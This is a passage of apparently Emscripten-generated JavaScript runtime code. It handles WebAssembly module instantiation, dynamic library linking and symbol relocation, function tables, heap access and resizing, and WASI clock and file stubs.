            wasmExports = relocateExports(wasmExports, 1024);
            var metadata2 = getDylinkMetadata(module2);
            if (metadata2.neededDynlibs) {
              dynamicLibraries = metadata2.neededDynlibs.concat(dynamicLibraries);
            }
            mergeLibSymbols(wasmExports, "main");
            LDSO.init();
            loadDylibs();
            __RELOC_FUNCS__.push(wasmExports["__wasm_apply_data_relocs"]);
            removeRunDependency("wasm-instantiate");
            return wasmExports;
          }
          __name(receiveInstance, "receiveInstance");
          addRunDependency("wasm-instantiate");
          function receiveInstantiationResult(result2) {
            return receiveInstance(result2["instance"], result2["module"]);
          }
          __name(receiveInstantiationResult, "receiveInstantiationResult");
          var info2 = getWasmImports();
          if (Module["instantiateWasm"]) {
            return new Promise((resolve, reject) => {
              Module["instantiateWasm"](info2, (mod, inst) => {
                receiveInstance(mod, inst);
                resolve(mod.exports);
              });
            });
          }
          wasmBinaryFile ??= findWasmBinary();
          try {
            var result = await instantiateAsync(wasmBinary, wasmBinaryFile, info2);
            var exports2 = receiveInstantiationResult(result);
            return exports2;
          } catch (e) {
            readyPromiseReject(e);
            return Promise.reject(e);
          }
        }
        __name(createWasm, "createWasm");
        var ASM_CONSTS = {};
        class ExitStatus {
          static {
            __name(this, "ExitStatus");
          }
          name = "ExitStatus";
          constructor(status) {
            this.message = `Program terminated with exit(${status})`;
            this.status = status;
          }
        }
        var GOT = {};
        var currentModuleWeakSymbols = /* @__PURE__ */ new Set([]);
        var GOTHandler = {
          get(obj, symName) {
            var rtn = GOT[symName];
            if (!rtn) {
              rtn = GOT[symName] = new WebAssembly.Global({
                "value": "i32",
                "mutable": true
              });
            }
            if (!currentModuleWeakSymbols.has(symName)) {
              rtn.required = true;
            }
            return rtn;
          }
        };
        var LE_HEAP_LOAD_F32 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getFloat32(byteOffset, true), "LE_HEAP_LOAD_F32");
        var LE_HEAP_LOAD_F64 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getFloat64(byteOffset, true), "LE_HEAP_LOAD_F64");
        var LE_HEAP_LOAD_I16 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getInt16(byteOffset, true), "LE_HEAP_LOAD_I16");
        var LE_HEAP_LOAD_I32 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getInt32(byteOffset, true), "LE_HEAP_LOAD_I32");
        var LE_HEAP_LOAD_U16 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getUint16(byteOffset, true), "LE_HEAP_LOAD_U16");
        var LE_HEAP_LOAD_U32 = /* @__PURE__ */ __name((byteOffset) => HEAP_DATA_VIEW.getUint32(byteOffset, true), "LE_HEAP_LOAD_U32");
        var LE_HEAP_STORE_F32 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setFloat32(byteOffset, value, true), "LE_HEAP_STORE_F32");
        var LE_HEAP_STORE_F64 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setFloat64(byteOffset, value, true), "LE_HEAP_STORE_F64");
        var LE_HEAP_STORE_I16 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setInt16(byteOffset, value, true), "LE_HEAP_STORE_I16");
        var LE_HEAP_STORE_I32 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setInt32(byteOffset, value, true), "LE_HEAP_STORE_I32");
        var LE_HEAP_STORE_U16 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setUint16(byteOffset, value, true), "LE_HEAP_STORE_U16");
        var LE_HEAP_STORE_U32 = /* @__PURE__ */ __name((byteOffset, value) => HEAP_DATA_VIEW.setUint32(byteOffset, value, true), "LE_HEAP_STORE_U32");
        var callRuntimeCallbacks = /* @__PURE__ */ __name((callbacks) => {
          while (callbacks.length > 0) {
            callbacks.shift()(Module);
          }
        }, "callRuntimeCallbacks");
        var onPostRuns = [];
        var addOnPostRun = /* @__PURE__ */ __name((cb) => onPostRuns.unshift(cb), "addOnPostRun");
        var onPreRuns = [];
        var addOnPreRun = /* @__PURE__ */ __name((cb) => onPreRuns.unshift(cb), "addOnPreRun");
        var UTF8Decoder = typeof TextDecoder != "undefined" ? new TextDecoder() : void 0;
        var UTF8ArrayToString = /* @__PURE__ */ __name((heapOrArray, idx = 0, maxBytesToRead = NaN) => {
          var endIdx = idx + maxBytesToRead;
          var endPtr = idx;
          while (heapOrArray[endPtr] && !(endPtr >= endIdx)) ++endPtr;
          if (endPtr - idx > 16 && heapOrArray.buffer && UTF8Decoder) {
            return UTF8Decoder.decode(heapOrArray.subarray(idx, endPtr));
          }
          var str = "";
          while (idx < endPtr) {
            var u0 = heapOrArray[idx++];
            if (!(u0 & 128)) {
              str += String.fromCharCode(u0);
              continue;
            }
            var u1 = heapOrArray[idx++] & 63;
            if ((u0 & 224) == 192) {
              str += String.fromCharCode((u0 & 31) << 6 | u1);
              continue;
            }
            var u2 = heapOrArray[idx++] & 63;
            if ((u0 & 240) == 224) {
              u0 = (u0 & 15) << 12 | u1 << 6 | u2;
            } else {
              u0 = (u0 & 7) << 18 | u1 << 12 | u2 << 6 | heapOrArray[idx++] & 63;
            }
            if (u0 < 65536) {
              str += String.fromCharCode(u0);
            } else {
              var ch = u0 - 65536;
              str += String.fromCharCode(55296 | ch >> 10, 56320 | ch & 1023);
            }
          }
          return str;
        }, "UTF8ArrayToString");
        var getDylinkMetadata = /* @__PURE__ */ __name((binary2) => {
          var offset = 0;
          var end = 0;
          function getU8() {
            return binary2[offset++];
          }
          __name(getU8, "getU8");
          function getLEB() {
            var ret = 0;
            var mul = 1;
            while (1) {
              var byte = binary2[offset++];
              ret += (byte & 127) * mul;
              mul *= 128;
              if (!(byte & 128)) break;
            }
            return ret;
          }
          __name(getLEB, "getLEB");
          function getString() {
            var len = getLEB();
            offset += len;
            return UTF8ArrayToString(binary2, offset - len, len);
          }
          __name(getString, "getString");
          function failIf(condition, message) {
            if (condition) throw new Error(message);
          }
          __name(failIf, "failIf");
          var name2 = "dylink.0";
          if (binary2 instanceof WebAssembly.Module) {
            var dylinkSection = WebAssembly.Module.customSections(binary2, name2);
            if (dylinkSection.length === 0) {
              name2 = "dylink";
              dylinkSection = WebAssembly.Module.customSections(binary2, name2);
            }
            failIf(dylinkSection.length === 0, "need dylink section");
            binary2 = new Uint8Array(dylinkSection[0]);
            end = binary2.length;
          } else {
            var int32View = new Uint32Array(new Uint8Array(binary2.subarray(0, 24)).buffer);
            var magicNumberFound = int32View[0] == 1836278016 || int32View[0] == 6386541;
            failIf(!magicNumberFound, "need to see wasm magic number");
            failIf(binary2[8] !== 0, "need the dylink section to be first");
            offset = 9;
            var section_size = getLEB();
            end = offset + section_size;
            name2 = getString();
          }
          var customSection = {
            neededDynlibs: [],
            tlsExports: /* @__PURE__ */ new Set(),
            weakImports: /* @__PURE__ */ new Set()
          };
          if (name2 == "dylink") {
            customSection.memorySize = getLEB();
            customSection.memoryAlign = getLEB();
            customSection.tableSize = getLEB();
            customSection.tableAlign = getLEB();
            var neededDynlibsCount = getLEB();
            for (var i2 = 0; i2 < neededDynlibsCount; ++i2) {
              var libname = getString();
              customSection.neededDynlibs.push(libname);
            }
          } else {
            failIf(name2 !== "dylink.0");
            var WASM_DYLINK_MEM_INFO = 1;
            var WASM_DYLINK_NEEDED = 2;
            var WASM_DYLINK_EXPORT_INFO = 3;
            var WASM_DYLINK_IMPORT_INFO = 4;
            var WASM_SYMBOL_TLS = 256;
            var WASM_SYMBOL_BINDING_MASK = 3;
            var WASM_SYMBOL_BINDING_WEAK = 1;
            while (offset < end) {
              var subsectionType = getU8();
              var subsectionSize = getLEB();
              if (subsectionType === WASM_DYLINK_MEM_INFO) {
                customSection.memorySize = getLEB();
                customSection.memoryAlign = getLEB();
                customSection.tableSize = getLEB();
                customSection.tableAlign = getLEB();
              } else if (subsectionType === WASM_DYLINK_NEEDED) {
                var neededDynlibsCount = getLEB();
                for (var i2 = 0; i2 < neededDynlibsCount; ++i2) {
                  libname = getString();
                  customSection.neededDynlibs.push(libname);
                }
              } else if (subsectionType === WASM_DYLINK_EXPORT_INFO) {
                var count = getLEB();
                while (count--) {
                  var symname = getString();
                  var flags2 = getLEB();
                  if (flags2 & WASM_SYMBOL_TLS) {
                    customSection.tlsExports.add(symname);
                  }
                }
              } else if (subsectionType === WASM_DYLINK_IMPORT_INFO) {
                var count = getLEB();
                while (count--) {
                  var modname = getString();
                  var symname = getString();
                  var flags2 = getLEB();
                  if ((flags2 & WASM_SYMBOL_BINDING_MASK) == WASM_SYMBOL_BINDING_WEAK) {
                    customSection.weakImports.add(symname);
                  }
                }
              } else {
                offset += subsectionSize;
              }
            }
          }
          return customSection;
        }, "getDylinkMetadata");
        function getValue(ptr, type = "i8") {
          if (type.endsWith("*")) type = "*";
          switch (type) {
            case "i1":
              return HEAP8[ptr];
            case "i8":
              return HEAP8[ptr];
            case "i16":
              return LE_HEAP_LOAD_I16((ptr >> 1) * 2);
            case "i32":
              return LE_HEAP_LOAD_I32((ptr >> 2) * 4);
            case "i64":
              return HEAP64[ptr >> 3];
            case "float":
              return LE_HEAP_LOAD_F32((ptr >> 2) * 4);
            case "double":
              return LE_HEAP_LOAD_F64((ptr >> 3) * 8);
            case "*":
              return LE_HEAP_LOAD_U32((ptr >> 2) * 4);
            default:
              abort(`invalid type for getValue: ${type}`);
          }
        }
        __name(getValue, "getValue");
        var newDSO = /* @__PURE__ */ __name((name2, handle2, syms) => {
          var dso = {
            refcount: Infinity,
            name: name2,
            exports: syms,
            global: true
          };
          LDSO.loadedLibsByName[name2] = dso;
          if (handle2 != void 0) {
            LDSO.loadedLibsByHandle[handle2] = dso;
          }
          return dso;
        }, "newDSO");
        var LDSO = {
          loadedLibsByName: {},
          loadedLibsByHandle: {},
          init() {
            newDSO("__main__", 0, wasmImports);
          }
        };
        var ___heap_base = 78224;
        var alignMemory = /* @__PURE__ */ __name((size, alignment) => Math.ceil(size / alignment) * alignment, "alignMemory");
        var getMemory = /* @__PURE__ */ __name((size) => {
          if (runtimeInitialized) {
            return _calloc(size, 1);
          }
          var ret = ___heap_base;
          var end = ret + alignMemory(size, 16);
          ___heap_base = end;
          GOT["__heap_base"].value = end;
          return ret;
        }, "getMemory");
        var isInternalSym = /* @__PURE__ */ __name((symName) => ["__cpp_exception", "__c_longjmp", "__wasm_apply_data_relocs", "__dso_handle", "__tls_size", "__tls_align", "__set_stack_limits", "_emscripten_tls_init", "__wasm_init_tls", "__wasm_call_ctors", "__start_em_asm", "__stop_em_asm", "__start_em_js", "__stop_em_js"].includes(symName) || symName.startsWith("__em_js__"), "isInternalSym");
        var uleb128Encode = /* @__PURE__ */ __name((n, target) => {
          if (n < 128) {
            target.push(n);
          } else {
            target.push(n % 128 | 128, n >> 7);
          }
        }, "uleb128Encode");
        var sigToWasmTypes = /* @__PURE__ */ __name((sig) => {
          var typeNames = {
            "i": "i32",
            "j": "i64",
            "f": "f32",
            "d": "f64",
            "e": "externref",
            "p": "i32"
          };
          var type = {
            parameters: [],
            results: sig[0] == "v" ? [] : [typeNames[sig[0]]]
          };
          for (var i2 = 1; i2 < sig.length; ++i2) {
            type.parameters.push(typeNames[sig[i2]]);
          }
          return type;
        }, "sigToWasmTypes");
        var generateFuncType = /* @__PURE__ */ __name((sig, target) => {
          var sigRet = sig.slice(0, 1);
          var sigParam = sig.slice(1);
          var typeCodes = {
            "i": 127,
            // i32
            "p": 127,
            // i32
            "j": 126,
            // i64
            "f": 125,
            // f32
            "d": 124,
            // f64
            "e": 111
          };
          target.push(96);
          uleb128Encode(sigParam.length, target);
          for (var i2 = 0; i2 < sigParam.length; ++i2) {
            target.push(typeCodes[sigParam[i2]]);
          }
          if (sigRet == "v") {
            target.push(0);
          } else {
            target.push(1, typeCodes[sigRet]);
          }
        }, "generateFuncType");
        var convertJsFunctionToWasm = /* @__PURE__ */ __name((func2, sig) => {
          if (typeof WebAssembly.Function == "function") {
            return new WebAssembly.Function(sigToWasmTypes(sig), func2);
          }
          var typeSectionBody = [1];
          generateFuncType(sig, typeSectionBody);
          var bytes = [
            0,
            97,
            115,
            109,
            // magic ("\0asm")
            1,
            0,
            0,
            0,
            // version: 1
            1
          ];
          uleb128Encode(typeSectionBody.length, bytes);
          bytes.push(...typeSectionBody);
          bytes.push(
            2,
            7,
            // import section
            // (import "e" "f" (func 0 (type 0)))
            1,
            1,
            101,
            1,
            102,
            0,
            0,
            7,
            5,
            // export section
            // (export "f" (func 0 (type 0)))
            1,
            1,
            102,
            0,
            0
          );
          var module2 = new WebAssembly.Module(new Uint8Array(bytes));
          var instance2 = new WebAssembly.Instance(module2, {
            "e": {
              "f": func2
            }
          });
          var wrappedFunc = instance2.exports["f"];
          return wrappedFunc;
        }, "convertJsFunctionToWasm");
        var wasmTableMirror = [];
        var wasmTable = new WebAssembly.Table({
          "initial": 31,
          "element": "anyfunc"
        });
        var getWasmTableEntry = /* @__PURE__ */ __name((funcPtr) => {
          var func2 = wasmTableMirror[funcPtr];
          if (!func2) {
            if (funcPtr >= wasmTableMirror.length) wasmTableMirror.length = funcPtr + 1;
            wasmTableMirror[funcPtr] = func2 = wasmTable.get(funcPtr);
          }
          return func2;
        }, "getWasmTableEntry");
        var updateTableMap = /* @__PURE__ */ __name((offset, count) => {
          if (functionsInTableMap) {
            for (var i2 = offset; i2 < offset + count; i2++) {
              var item = getWasmTableEntry(i2);
              if (item) {
                functionsInTableMap.set(item, i2);
              }
            }
          }
        }, "updateTableMap");
        var functionsInTableMap;
        var getFunctionAddress = /* @__PURE__ */ __name((func2) => {
          if (!functionsInTableMap) {
            functionsInTableMap = /* @__PURE__ */ new WeakMap();
            updateTableMap(0, wasmTable.length);
          }
          return functionsInTableMap.get(func2) || 0;
        }, "getFunctionAddress");
        var freeTableIndexes = [];
        var getEmptyTableSlot = /* @__PURE__ */ __name(() => {
          if (freeTableIndexes.length) {
            return freeTableIndexes.pop();
          }
          try {
            wasmTable.grow(1);
          } catch (err2) {
            if (!(err2 instanceof RangeError)) {
              throw err2;
            }
            throw "Unable to grow wasm table. Set ALLOW_TABLE_GROWTH.";
          }
          return wasmTable.length - 1;
        }, "getEmptyTableSlot");
        var setWasmTableEntry = /* @__PURE__ */ __name((idx, func2) => {
          wasmTable.set(idx, func2);
          wasmTableMirror[idx] = wasmTable.get(idx);
        }, "setWasmTableEntry");
        var addFunction = /* @__PURE__ */ __name((func2, sig) => {
          var rtn = getFunctionAddress(func2);
          if (rtn) {
            return rtn;
          }
          var ret = getEmptyTableSlot();
          try {
            setWasmTableEntry(ret, func2);
          } catch (err2) {
            if (!(err2 instanceof TypeError)) {
              throw err2;
            }
            var wrapped = convertJsFunctionToWasm(func2, sig);
            setWasmTableEntry(ret, wrapped);
          }
          functionsInTableMap.set(func2, ret);
          return ret;
        }, "addFunction");
        var updateGOT = /* @__PURE__ */ __name((exports2, replace) => {
          for (var symName in exports2) {
            if (isInternalSym(symName)) {
              continue;
            }
            var value = exports2[symName];
            GOT[symName] ||= new WebAssembly.Global({
              "value": "i32",
              "mutable": true
            });
            if (replace || GOT[symName].value == 0) {
              if (typeof value == "function") {
                GOT[symName].value = addFunction(value);
              } else if (typeof value == "number") {
                GOT[symName].value = value;
              } else {
                err(`unhandled export type for '${symName}': ${typeof value}`);
              }
            }
          }
        }, "updateGOT");
        var relocateExports = /* @__PURE__ */ __name((exports2, memoryBase2, replace) => {
          var relocated = {};
          for (var e in exports2) {
            var value = exports2[e];
            if (typeof value == "object") {
              value = value.value;
            }
            if (typeof value == "number") {
              value += memoryBase2;
            }
            relocated[e] = value;
          }
          updateGOT(relocated, replace);
          return relocated;
        }, "relocateExports");
        var isSymbolDefined = /* @__PURE__ */ __name((symName) => {
          var existing = wasmImports[symName];
          if (!existing || existing.stub) {
            return false;
          }
          return true;
        }, "isSymbolDefined");
        var dynCall = /* @__PURE__ */ __name((sig, ptr, args2 = []) => {
          var rtn = getWasmTableEntry(ptr)(...args2);
          return rtn;
        }, "dynCall");
        var stackSave = /* @__PURE__ */ __name(() => _emscripten_stack_get_current(), "stackSave");
        var stackRestore = /* @__PURE__ */ __name((val) => __emscripten_stack_restore(val), "stackRestore");
        var createInvokeFunction = /* @__PURE__ */ __name((sig) => (ptr, ...args2) => {
          var sp = stackSave();
          try {
            return dynCall(sig, ptr, args2);
          } catch (e) {
            stackRestore(sp);
            if (e !== e + 0) throw e;
            _setThrew(1, 0);
            if (sig[0] == "j") return 0n;
          }
        }, "createInvokeFunction");
        var resolveGlobalSymbol = /* @__PURE__ */ __name((symName, direct = false) => {
          var sym;
          if (isSymbolDefined(symName)) {
            sym = wasmImports[symName];
          } else if (symName.startsWith("invoke_")) {
            sym = wasmImports[symName] = createInvokeFunction(symName.split("_")[1]);
          }
          return {
            sym,
            name: symName
          };
        }, "resolveGlobalSymbol");
        var onPostCtors = [];
        var addOnPostCtor = /* @__PURE__ */ __name((cb) => onPostCtors.unshift(cb), "addOnPostCtor");
        var UTF8ToString = /* @__PURE__ */ __name((ptr, maxBytesToRead) => ptr ? UTF8ArrayToString(HEAPU8, ptr, maxBytesToRead) : "", "UTF8ToString");
        var loadWebAssemblyModule = /* @__PURE__ */ __name((binary, flags, libName, localScope, handle) => {
          var metadata = getDylinkMetadata(binary);
          currentModuleWeakSymbols = metadata.weakImports;
          function loadModule() {
            var memAlign = Math.pow(2, metadata.memoryAlign);
            var memoryBase = metadata.memorySize ? alignMemory(getMemory(metadata.memorySize + memAlign), memAlign) : 0;
            var tableBase = metadata.tableSize ? wasmTable.length : 0;
            if (handle) {
              HEAP8[handle + 8] = 1;
              LE_HEAP_STORE_U32((handle + 12 >> 2) * 4, memoryBase);
              LE_HEAP_STORE_I32((handle + 16 >> 2) * 4, metadata.memorySize);
              LE_HEAP_STORE_U32((handle + 20 >> 2) * 4, tableBase);
              LE_HEAP_STORE_I32((handle + 24 >> 2) * 4, metadata.tableSize);
            }
            if (metadata.tableSize) {
              wasmTable.grow(metadata.tableSize);
            }
            var moduleExports;
            function resolveSymbol(sym) {
              var resolved = resolveGlobalSymbol(sym).sym;
              if (!resolved && localScope) {
                resolved = localScope[sym];
              }
              if (!resolved) {
                resolved = moduleExports[sym];
              }
              return resolved;
            }
            __name(resolveSymbol, "resolveSymbol");
            var proxyHandler = {
              get(stubs, prop) {
                switch (prop) {
                  case "__memory_base":
                    return memoryBase;
                  case "__table_base":
                    return tableBase;
                }
                if (prop in wasmImports && !wasmImports[prop].stub) {
                  var res = wasmImports[prop];
                  return res;
                }
                if (!(prop in stubs)) {
                  var resolved;
                  stubs[prop] = (...args2) => {
                    resolved ||= resolveSymbol(prop);
                    return resolved(...args2);
                  };
                }
                return stubs[prop];
              }
            };
            var proxy = new Proxy({}, proxyHandler);
            var info = {
              "GOT.mem": new Proxy({}, GOTHandler),
              "GOT.func": new Proxy({}, GOTHandler),
              "env": proxy,
              "wasi_snapshot_preview1": proxy
            };
            function postInstantiation(module, instance) {
              updateTableMap(tableBase, metadata.tableSize);
              moduleExports = relocateExports(instance.exports, memoryBase);
              if (!flags.allowUndefined) {
                reportUndefinedSymbols();
              }
              function addEmAsm(addr, body) {
                var args = [];
                var arity = 0;
                for (; arity < 16; arity++) {
                  if (body.indexOf("$" + arity) != -1) {
                    args.push("$" + arity);
                  } else {
                    break;
                  }
                }
                args = args.join(",");
                var func = `(${args}) => { ${body} };`;
                ASM_CONSTS[start] = eval(func);
              }
              __name(addEmAsm, "addEmAsm");
              if ("__start_em_asm" in moduleExports) {
                var start = moduleExports["__start_em_asm"];
                var stop = moduleExports["__stop_em_asm"];
                while (start < stop) {
                  var jsString = UTF8ToString(start);
                  addEmAsm(start, jsString);
                  start = HEAPU8.indexOf(0, start) + 1;
                }
              }
              function addEmJs(name, cSig, body) {
                var jsArgs = [];
                cSig = cSig.slice(1, -1);
                if (cSig != "void") {
                  cSig = cSig.split(",");
                  for (var i in cSig) {
                    var jsArg = cSig[i].split(" ").pop();
                    jsArgs.push(jsArg.replace("*", ""));
                  }
                }
                var func = `(${jsArgs}) => ${body};`;
                moduleExports[name] = eval(func);
              }
              __name(addEmJs, "addEmJs");
              for (var name in moduleExports) {
                if (name.startsWith("__em_js__")) {
                  var start = moduleExports[name];
                  var jsString = UTF8ToString(start);
                  var parts = jsString.split("<::>");
                  addEmJs(name.replace("__em_js__", ""), parts[0], parts[1]);
                  delete moduleExports[name];
                }
              }
              var applyRelocs = moduleExports["__wasm_apply_data_relocs"];
              if (applyRelocs) {
                if (runtimeInitialized) {
                  applyRelocs();
                } else {
                  __RELOC_FUNCS__.push(applyRelocs);
                }
              }
              var init = moduleExports["__wasm_call_ctors"];
              if (init) {
                if (runtimeInitialized) {
                  init();
                } else {
                  addOnPostCtor(init);
                }
              }
              return moduleExports;
            }
            __name(postInstantiation, "postInstantiation");
            if (flags.loadAsync) {
              if (binary instanceof WebAssembly.Module) {
                var instance = new WebAssembly.Instance(binary, info);
                return Promise.resolve(postInstantiation(binary, instance));
              }
              return WebAssembly.instantiate(binary, info).then((result) => postInstantiation(result.module, result.instance));
            }
            var module = binary instanceof WebAssembly.Module ? binary : new WebAssembly.Module(binary);
            var instance = new WebAssembly.Instance(module, info);
            return postInstantiation(module, instance);
          }
          __name(loadModule, "loadModule");
          if (flags.loadAsync) {
            return metadata.neededDynlibs.reduce((chain, dynNeeded) => chain.then(() => loadDynamicLibrary(dynNeeded, flags, localScope)), Promise.resolve()).then(loadModule);
          }
          metadata.neededDynlibs.forEach((needed) => loadDynamicLibrary(needed, flags, localScope));
          return loadModule();
        }, "loadWebAssemblyModule");
        var mergeLibSymbols = /* @__PURE__ */ __name((exports2, libName2) => {
          for (var [sym, exp] of Object.entries(exports2)) {
            const setImport = /* @__PURE__ */ __name((target) => {
              if (!isSymbolDefined(target)) {
                wasmImports[target] = exp;
              }
            }, "setImport");
            setImport(sym);
            const main_alias = "__main_argc_argv";
            if (sym == "main") {
              setImport(main_alias);
            }
            if (sym == main_alias) {
              setImport("main");
            }
          }
        }, "mergeLibSymbols");
        var asyncLoad = /* @__PURE__ */ __name(async (url) => {
          var arrayBuffer = await readAsync(url);
          return new Uint8Array(arrayBuffer);
        }, "asyncLoad");
        function loadDynamicLibrary(libName2, flags2 = {
          global: true,
          nodelete: true
        }, localScope2, handle2) {
          var dso = LDSO.loadedLibsByName[libName2];
          if (dso) {
            if (!flags2.global) {
              if (localScope2) {
                Object.assign(localScope2, dso.exports);
              }
            } else if (!dso.global) {
              dso.global = true;
              mergeLibSymbols(dso.exports, libName2);
            }
            if (flags2.nodelete && dso.refcount !== Infinity) {
              dso.refcount = Infinity;
            }
            dso.refcount++;
            if (handle2) {
              LDSO.loadedLibsByHandle[handle2] = dso;
            }
            return flags2.loadAsync ? Promise.resolve(true) : true;
          }
          dso = newDSO(libName2, handle2, "loading");
          dso.refcount = flags2.nodelete ? Infinity : 1;
          dso.global = flags2.global;
          function loadLibData() {
            if (handle2) {
              var data = LE_HEAP_LOAD_U32((handle2 + 28 >> 2) * 4);
              var dataSize = LE_HEAP_LOAD_U32((handle2 + 32 >> 2) * 4);
              if (data && dataSize) {
                var libData = HEAP8.slice(data, data + dataSize);
                return flags2.loadAsync ? Promise.resolve(libData) : libData;
              }
            }
            var libFile = locateFile(libName2);
            if (flags2.loadAsync) {
              return asyncLoad(libFile);
            }
            if (!readBinary) {
              throw new Error(`${libFile}: file not found, and synchronous loading of external files is not available`);
            }
            return readBinary(libFile);
          }
          __name(loadLibData, "loadLibData");
          function getExports() {
            if (flags2.loadAsync) {
              return loadLibData().then((libData) => loadWebAssemblyModule(libData, flags2, libName2, localScope2, handle2));
            }
            return loadWebAssemblyModule(loadLibData(), flags2, libName2, localScope2, handle2);
          }
          __name(getExports, "getExports");
          function moduleLoaded(exports2) {
            if (dso.global) {
              mergeLibSymbols(exports2, libName2);
            } else if (localScope2) {
              Object.assign(localScope2, exports2);
            }
            dso.exports = exports2;
          }
          __name(moduleLoaded, "moduleLoaded");
          if (flags2.loadAsync) {
            return getExports().then((exports2) => {
              moduleLoaded(exports2);
              return true;
            });
          }
          moduleLoaded(getExports());
          return true;
        }
        __name(loadDynamicLibrary, "loadDynamicLibrary");
        var reportUndefinedSymbols = /* @__PURE__ */ __name(() => {
          for (var [symName, entry] of Object.entries(GOT)) {
            if (entry.value == 0) {
              var value = resolveGlobalSymbol(symName, true).sym;
              if (!value && !entry.required) {
                continue;
              }
              if (typeof value == "function") {
                entry.value = addFunction(value, value.sig);
              } else if (typeof value == "number") {
                entry.value = value;
              } else {
                throw new Error(`bad export type for '${symName}': ${typeof value}`);
              }
            }
          }
        }, "reportUndefinedSymbols");
        var loadDylibs = /* @__PURE__ */ __name(() => {
          if (!dynamicLibraries.length) {
            reportUndefinedSymbols();
            return;
          }
          addRunDependency("loadDylibs");
          dynamicLibraries.reduce((chain, lib) => chain.then(() => loadDynamicLibrary(lib, {
            loadAsync: true,
            global: true,
            nodelete: true,
            allowUndefined: true
          })), Promise.resolve()).then(() => {
            reportUndefinedSymbols();
            removeRunDependency("loadDylibs");
          });
        }, "loadDylibs");
        var noExitRuntime = Module["noExitRuntime"] || true;
        function setValue(ptr, value, type = "i8") {
          if (type.endsWith("*")) type = "*";
          switch (type) {
            case "i1":
              HEAP8[ptr] = value;
              break;
            case "i8":
              HEAP8[ptr] = value;
              break;
            case "i16":
              LE_HEAP_STORE_I16((ptr >> 1) * 2, value);
              break;
            case "i32":
              LE_HEAP_STORE_I32((ptr >> 2) * 4, value);
              break;
            case "i64":
              HEAP64[ptr >> 3] = BigInt(value);
              break;
            case "float":
              LE_HEAP_STORE_F32((ptr >> 2) * 4, value);
              break;
            case "double":
              LE_HEAP_STORE_F64((ptr >> 3) * 8, value);
              break;
            case "*":
              LE_HEAP_STORE_U32((ptr >> 2) * 4, value);
              break;
            default:
              abort(`invalid type for setValue: ${type}`);
          }
        }
        __name(setValue, "setValue");
        var ___memory_base = new WebAssembly.Global({
          "value": "i32",
          "mutable": false
        }, 1024);
        var ___stack_pointer = new WebAssembly.Global({
          "value": "i32",
          "mutable": true
        }, 78224);
        var ___table_base = new WebAssembly.Global({
          "value": "i32",
          "mutable": false
        }, 1);
        var __abort_js = /* @__PURE__ */ __name(() => abort(""), "__abort_js");
        __abort_js.sig = "v";
        var _emscripten_get_now = /* @__PURE__ */ __name(() => performance.now(), "_emscripten_get_now");
        _emscripten_get_now.sig = "d";
        var _emscripten_date_now = /* @__PURE__ */ __name(() => Date.now(), "_emscripten_date_now");
        _emscripten_date_now.sig = "d";
        var nowIsMonotonic = 1;
        var checkWasiClock = /* @__PURE__ */ __name((clock_id) => clock_id >= 0 && clock_id <= 3, "checkWasiClock");
        var INT53_MAX = 9007199254740992;
        var INT53_MIN = -9007199254740992;
        var bigintToI53Checked = /* @__PURE__ */ __name((num) => num < INT53_MIN || num > INT53_MAX ? NaN : Number(num), "bigintToI53Checked");
        function _clock_time_get(clk_id, ignored_precision, ptime) {
          ignored_precision = bigintToI53Checked(ignored_precision);
          if (!checkWasiClock(clk_id)) {
            return 28;
          }
          var now;
          if (clk_id === 0) {
            now = _emscripten_date_now();
          } else if (nowIsMonotonic) {
            now = _emscripten_get_now();
          } else {
            return 52;
          }
          var nsec = Math.round(now * 1e3 * 1e3);
          HEAP64[ptime >> 3] = BigInt(nsec);
          return 0;
        }
        __name(_clock_time_get, "_clock_time_get");
        _clock_time_get.sig = "iijp";
        var getHeapMax = /* @__PURE__ */ __name(() => (
          // Stay one Wasm page short of 4GB: while e.g. Chrome is able to allocate
          // full 4GB Wasm memories, the size will wrap back to 0 bytes in Wasm side
          // for any code that deals with heap sizes, which would require special
          // casing all heap size related code to treat 0 specially.
          2147483648
        ), "getHeapMax");
        var growMemory = /* @__PURE__ */ __name((size) => {
          var b = wasmMemory.buffer;
          var pages = (size - b.byteLength + 65535) / 65536 | 0;
          try {
            wasmMemory.grow(pages);
            updateMemoryViews();
            return 1;
          } catch (e) {
          }
        }, "growMemory");
        var _emscripten_resize_heap = /* @__PURE__ */ __name((requestedSize) => {
          var oldSize = HEAPU8.length;
          requestedSize >>>= 0;
          var maxHeapSize = getHeapMax();
          if (requestedSize > maxHeapSize) {
            return false;
          }
          for (var cutDown = 1; cutDown <= 4; cutDown *= 2) {
            var overGrownHeapSize = oldSize * (1 + 0.2 / cutDown);
            overGrownHeapSize = Math.min(overGrownHeapSize, requestedSize + 100663296);
            var newSize = Math.min(maxHeapSize, alignMemory(Math.max(requestedSize, overGrownHeapSize), 65536));
            var replacement = growMemory(newSize);
            if (replacement) {
              return true;
            }
          }
          return false;
        }, "_emscripten_resize_heap");
        _emscripten_resize_heap.sig = "ip";
        var _fd_close = /* @__PURE__ */ __name((fd) => 52, "_fd_close");
        _fd_close.sig = "ii";
        function _fd_seek(fd, offset, whence, newOffset) {
          offset = bigintToI53Checked(offset);
          return 70;
        }
        __name(_fd_seek, "_fd_seek");
        _fd_seek.sig = "iijip";
        var printCharBuffers = [null, [], []];
        var printChar = /* @__PURE__ */ __name((stream, curr) => {
          var buffer = printCharBuffers[stream];
          if (curr === 0 || curr === 10) {
            (stream === 1 ? out : err)(UTF8ArrayToString(buffer));
            buffer.length = 0;
          } else {
            buffer.push(curr);
          }
        }, "printChar");
        var flush_NO_FILESYSTEM = /* @__PURE__ */ __name(() => {
          if (printCharBuffers[1].length) printChar(1, 10);
          if (printCharBuffers[2].length) printChar(2, 10);
        }, "flush_NO_FILESYSTEM");
        var SYSCALLS = {
          varargs: void 0,
          getStr(ptr) {
            var ret = UTF8ToString(ptr);
            return ret;
          }
        };
        var _fd_write = /* @__PURE__ */ __name((fd, iov, iovcnt, pnum) => {
